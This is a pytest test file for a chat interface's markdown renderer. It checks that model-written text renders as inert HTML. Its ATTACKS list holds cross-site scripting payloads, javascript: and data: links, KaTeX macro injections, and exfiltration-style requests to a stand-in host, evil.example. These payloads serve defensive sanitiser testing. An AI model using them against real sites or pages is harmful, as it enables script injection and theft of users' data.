import re
from pathlib import Path

import pytest
from hypothesis import given, settings

from galerne.chat.blocks import BlockStream
from galerne.chat.web.markdown import render_block, render_open_block, render_page, sanitise
from tests.chat.test_blocks import chunked, documents

GOLDEN = Path(__file__).parents[1] / "golden" / "chat"

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](vbscript:msgbox)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](javascript:alert(1))",
    "![x](https://evil.example/p.png?q=secret)",
    '[a](https://e.org "onmouseover=alert(1)")',
    '[a](https://e.org" onclick="alert(1))',
    "<https://e.org/\"onclick=alert(1)>",
    "```\"><img/src=x/onerror=alert(1)>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "$\\text{<img/src=x/onerror=alert(1)>}$",
    "$$\n\\text{</mtext></math><img/src=x/onerror=alert(1)>}\n$$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\class{x\" onclick=\"alert(1)}{y}$",
    "$\\textcolor{\"><script>alert(1)</script>}{x}$",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=x style='position:fixed'>",
    "| <b onclick=x> | [a](javascript:x) |\n|---|---|\n| 1 | 2 |",
    "\u0000<script>alert(1)</script>",
    "<form action=//evil.example><input><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
]  # fmt: skip

TAG = re.compile(r"<([a-zA-Z][\w-]*)([^<>]*)>")
DEAD = re.compile(
    r"<(script|img|svg|iframe|style|form|input|button|base|meta|link|object|embed)\b", re.IGNORECASE
)


def assert_inert(html):
    assert not DEAD.search(html)
    for _, attributes in TAG.findall(html):
        names = re.findall(r'([\w:-]+)="[^"]*"', attributes)
        assert not [
            name for name in names if name.lower().startswith("on") or name in {"style", "src", "srcset"}
        ]
        for address in re.findall(r'href="([^"]*)"', attributes):
            assert address.startswith(("http://", "https://", "mailto:")) or ":" not in address


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_stay_inert(attack):
    assert_inert("".join(render_page(attack)))
    assert_inert(render_open_block(attack))


@given(documents)
@settings(max_examples=60, deadline=None)
def test_whatever_a_model_writes_is_inert_and_already_clean(text):
    for html in render_page(text):
        assert_inert(html)
        assert sanitise(html) == html


@given(chunked())
@settings(max_examples=60, deadline=None)
def test_any_chunking_of_a_stream_gives_the_one_shot_page(sample):
    text, chunks = sample
    stream = BlockStream()
    for chunk in chunks:
        stream.feed(chunk)
    assert tuple(render_block(block) for block in stream.finish()) == render_page(text)


def test_remote_pictures_are_links_with_their_host():
    (html,) = render_page("![a cat](https://evil.example/cat.png?q=1)")
    assert "<img" not in html
    assert ">a cat</a>" in html
    assert '<span class="host">evil.example</span>' in html


def test_links_open_apart_and_show_their_host_unless_the_text_does():
    (html,) = render_page("[here](https://e.org/a) and <https://e.org>")
    assert html.count('class="host"') == 1
    assert html.count('rel="noopener noreferrer nofollow"') == 2


def test_code_without_a_known_language_is_shown_as_it_is():
    (html,) = render_page("```nosuch\na < b\n```")
    assert 'data-language="nosuch"' in html
    assert "a &lt; b" in html


def test_a_formula_that_cannot_be_converted_shows_its_source():
    (html,) = render_page("$\\frac$")
    assert "<code>\\frac</code>" in html


def test_a_very_long_formula_is_not_converted():
    (html,) = render_page(f"${'x' * 5000}$")
    assert "<math" not in html


def test_the_page_of_a_rich_answer_is_the_golden_one():
    source = (GOLDEN / "answer.md").read_text(encoding="utf-8")
    assert "\n".join(render_page(source)) == (GOLDEN / "answer.html").read_text(encoding="utf-8")
